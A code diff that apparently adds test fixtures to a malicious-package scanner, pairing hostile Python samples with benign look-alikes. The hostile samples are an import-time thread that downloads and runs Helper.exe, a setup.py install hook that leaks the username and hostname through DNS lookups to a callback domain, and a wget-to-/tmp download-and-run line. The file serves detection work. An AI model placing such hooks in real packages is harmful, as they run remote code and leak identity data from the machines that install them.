@@ -58,6 +58,29 @@ CASES = [
          "except socket.gaierror:\n    pass\n"}),
      # the local-address idiom many packages use at import
      py({"setup.py": TAIL, "pkg/__init__.py": "import socket\nHOST_IP = socket.gethostbyname(socket.gethostname())\n"})),
+    ("STATIC-DOWNLOAD-WRITE-RUN-FILE",
+     # an import-time thread fetches a program from a raw address and starts the file it wrote
+     py({"setup.py": TAIL, "pkg/__init__.py": "from .core import start\nstart()\n",
+         "pkg/core.py": "import requests, subprocess, threading\nFILE = 'Helper.exe'\n"
+                        "def _get():\n    r = requests.get(URL, stream=True)\n    with open(FILE, 'wb') as f:\n"
+                        "        for chunk in r.iter_content(8192):\n            f.write(chunk)\n"
+                        "    subprocess.Popen([FILE])\n"
+                        "def start():\n    threading.Thread(target=_get, daemon=True).start()\n"}),
+     # pytailwindcss-style: fetch the tool's own binary, make it executable, run it with the user's arguments
+     py(module("import os, subprocess, urllib.request\ndef run(args):\n    if not os.path.exists(bin_path):\n"
+               "        with urllib.request.urlopen(url) as resp, open(bin_path, 'wb') as f:\n"
+               "            f.write(resp.read())\n        os.chmod(bin_path, 0o755)\n"
+               "    return subprocess.run([bin_path, *args])\n"))),
+    ("STATIC-DNS-EXFIL-ENCODED-LABELS",
+     # an install override resolves base32(user).base32(host).<callback domain>
+     py(setup_py("import base64, os, socket\nfrom setuptools.command.install import install\nclass I(install):\n"
+                 "    def run(self):\n        u = base64.b32encode(os.getlogin().encode()).decode().rstrip('=')\n"
+                 "        h = base64.b32encode(socket.gethostname().encode()).decode().rstrip('=')\n"
+                 "        d = u + '.' + h + '.a.callback.example'\n        try:\n            socket.gethostbyname(d)\n"
+                 "        except socket.gaierror:\n            pass\n")),
+     # the FQDN idiom at import, next to an encoded auth header (one label: the machine's own name)
+     py({"setup.py": TAIL, "pkg/__init__.py": "import base64, socket\nfqdn = socket.gethostname() + '.corp.example.com'\n"
+         "ADDR = socket.gethostbyname(fqdn)\nAUTH = base64.b64encode(b'user:pass')\n"})),
     ("STATIC-SHELL-DOWNLOAD-THEN-RUN",
      # maratlib-style: fetch a script to a file, make it executable, run it
      py(setup_py("import subprocess\nsubprocess.getoutput('cd /tmp && wget https://files.example/s.sh -O s.sh && "
